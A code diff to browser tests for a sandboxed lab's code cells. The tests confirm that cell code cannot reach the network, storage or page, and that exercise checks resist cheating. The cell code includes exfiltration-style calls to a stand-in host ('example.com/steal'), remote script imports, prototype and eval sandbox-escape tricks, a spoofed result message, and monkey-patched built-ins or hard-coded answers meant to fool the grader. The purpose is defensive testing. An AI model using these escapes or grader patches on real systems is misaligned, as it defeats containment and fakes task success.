@@ -169,7 +169,7 @@ export default attempts;`,
     await expect(output(cell)).not.toContainText("sk-secret");
   });
 
-  test("isolation: no network, no storage, no messages to the page; the lab library still loads its models", async ({
+  test("isolation: no network, no storage, no messages to the page, also by the scope's prototypes; the lab library still loads its models", async ({
     guardedPage: page,
   }) => {
     const outside: string[] = [];
@@ -181,38 +181,110 @@ export default attempts;`,
       cell,
       `// @ts-nocheck
 const attempts = {};
-const tries = [
-  ["fetch", () => fetch("https://example.com/steal?k=1")],
-  ["WebSocket", () => new WebSocket("wss://example.com")],
-  ["EventSource", () => new EventSource("https://example.com")],
-  ["XMLHttpRequest", () => new XMLHttpRequest()],
-  ["importScripts", () => importScripts("https://example.com/x.js")],
-  ["indexedDB", () => indexedDB.open("x")],
-  ["caches", () => caches.open("x")],
-  ["Worker", () => new Worker("/x.js")],
-  ["postMessage", () => postMessage({ type: "result", id: 1, display: { kind: "text", text: "SPOOFED RESULT" } })],
-  ["proto postMessage", () => Object.getPrototypeOf(self).postMessage.call(self, { type: "result", id: 1, display: { kind: "text", text: "SPOOFED RESULT" } })],
+const SPOOF = { type: "result", id: 1, display: { kind: "text", text: "SPOOFED RESULT" } };
+// The worker scope, reached in every way a cell could: the names, the prototypes, Function.
+const scopes = {
+  self: () => self,
+  "constructor.prototype": () => self.constructor.prototype,
+  "__proto__": () => globalThis.__proto__,
+  "__proto__.__proto__": () => globalThis.__proto__.__proto__,
+  'Function("return this")': () => Function("return this")(),
+};
+const uses = {
+  fetch: (g) => g.fetch.call(self, "https://example.com/steal?k=1"),
+  WebSocket: (g) => new g.WebSocket("wss://example.com"),
+  EventSource: (g) => new g.EventSource("https://example.com"),
+  XMLHttpRequest: (g) => { const x = new g.XMLHttpRequest(); x.open("GET", "https://example.com"); x.send(); },
+  importScripts: (g) => g.importScripts.call(self, "https://example.com/x.js"),
+  indexedDB: (g) => Object.getOwnPropertyDescriptor(g, "indexedDB")?.get?.call(self).open("x") ?? g.indexedDB.open("x"),
+  caches: (g) => (Object.getOwnPropertyDescriptor(g, "caches")?.get?.call(self) ?? g.caches).open("x"),
+  Worker: (g) => new g.Worker("/x.js"),
+  BroadcastChannel: (g) => new g.BroadcastChannel("x").postMessage("hi"),
+  FontFace: (g) => new g.FontFace("x", "url(https://example.com/f.woff)").load(),
+  postMessage: (g) => g.postMessage.call(self, SPOOF),
+  onmessage: (g) => Object.getOwnPropertyDescriptor(g, "onmessage").set.call(self, () => {}),
+};
+for (const [scope, get] of Object.entries(scopes))
+  for (const [name, use] of Object.entries(uses)) {
+    try { await use(get()); attempts[name + " via " + scope] = "allowed"; } catch { attempts[name + " via " + scope] = "blocked"; }
+  }
+const more = [
+  ["fetch another origin", () => fetch("https://example.com/steal?k=1")],
   ["listen", () => addEventListener("message", () => {})],
+  ["EventTarget listen", () => EventTarget.prototype.addEventListener.call(self, "message", () => {})],
+  ["navigator.storage", () => navigator.storage.getDirectory()],
+  ["import()", () => import("https://example.com/x.js")],
+  ["import() in Function", () => Function('return import("https://example.com/x.js")')()],
+  ["import() in AsyncFunction", () => (async () => {}).constructor('return await import("https://example.com/x.js")')()],
+  ["import() in eval", () => (0, eval)('import("https://example.com/x.js")')],
+  ["import() in a string timer", () => new Promise((ok, no) => { try { setTimeout('import("https://example.com/x.js")', 0); setTimeout(ok, 50); } catch (e) { no(e); } })],
 ];
-for (const [name, attempt] of tries) {
-  try { await attempt(); attempts[name] = "allowed"; } catch (e) { attempts[name] = "blocked"; }
+for (const [name, attempt] of more) {
+  try { await attempt(); attempts[name] = "allowed"; } catch { attempts[name] = "blocked"; }
 }
-export default attempts;`,
+// The site's own files still load (the lab library reads them), and code from strings still runs.
+const names = Object.keys(attempts);
+console.log("allowed: " + (names.filter((n) => attempts[n] === "allowed").join(", ") || "none"));
+export default {
+  blocked: names.filter((n) => attempts[n] === "blocked").length,
+  sameOrigin: (await fetch("/favicon.svg")).ok ? "works" : "fails",
+  Function: Function("a", "return a * 2")(21) === 42 ? "works" : "fails",
+};
+`,
     );
     expect(await run(cell)).toBe("done");
     const result = cell.locator('[data-part="result"]');
+    await expect(cell.locator(".cc-console")).toHaveText("allowed: none");
     await expect(result).not.toContainText("SPOOFED");
-    await expect(result).not.toContainText("allowed");
-    for (const name of [
-      "fetch",
-      "WebSocket",
-      "importScripts",
-      "indexedDB",
-      "postMessage",
-      "listen",
-    ])
-      await expect(result).toContainText(`${name}: "blocked"`);
+    // 12 uses × 5 ways to the scope, and 9 more, each refused.
+    await expect(result).toContainText("blocked: 69");
+    await expect(result).toContainText('sameOrigin: "works"');
+    await expect(result).toContainText('Function: "works"');
     expect(outside).toEqual([]);
+  });
+
+  test("exercise checks run where the cell cannot reach: patched built-ins and hard-coded answers fail, the real code passes", async ({
+    guardedPage: page,
+  }) => {
+    test.setTimeout(120_000);
+    const cell = await openCell(page, "07-labeling-with-llms", "kappa");
+    const starter = await cell.evaluate((el) => (el as HTMLElement & { code: string }).code);
+    const solution = readFileSync(
+      "content/lessons/07-labeling-with-llms/cells/kappa.solution.ts",
+      "utf8",
+    );
+    const verdict = cell.locator('[data-part="verdict"]');
+    const cheats: [string, string][] = [
+      // In one realm with the checks, this made every "close enough" comparison true.
+      ["Math.abs", `${starter}\nMath.abs = () => 0;\n`],
+      // … and this made runChecks record no failures.
+      ["Array.prototype.push", `${starter}\nArray.prototype.push = function () { return 0; };\n`],
+      // A reference computed with reduce would then agree with the starter's p_e = 0.
+      [
+        "Array.prototype.reduce and Number.prototype.toFixed",
+        `${starter}\n(Array.prototype as any).reduce = () => 0;\n(Number.prototype as any).toFixed = () => "0.5455";\n`,
+      ],
+      [
+        "hard-coded answers",
+        `export const accuracy = 0.8;\nexport const kappa = 6 / 11;\nexport function agreement(gold: string[], model: string[]) {\n  return { accuracy: 0.8, kappa: 6 / 11 };\n}\n`,
+      ],
+    ];
+    for (const [name, code] of cheats) {
+      await setCode(cell, code);
+      expect(await run(cell), name).toBe("failed");
+      await expect(verdict, name).toContainText("Not yet");
+    }
+    await expect(verdict).toContainText("agreement(gold, model)");
+    expect(await page.evaluate(() => localStorage.getItem("llmlab:exercises"))).toBeNull();
+    // The real code passes, even beside the patches (they change only the cell's own realm).
+    await setCode(
+      cell,
+      `${solution}\nMath.abs = () => 0;\n(Array.prototype as any).reduce = () => 0;\n`,
+    );
+    expect(await run(cell)).toBe("failed");
+    await setCode(cell, `${solution}\nMath.abs = () => 0;\n// mine\n`);
+    expect(await run(cell)).toBe("passed");
+    await expect(verdict).toContainText("Correct: all 3 checks pass");
   });
 
   test("Monaco is not downloaded until a cell nears the viewport", async ({
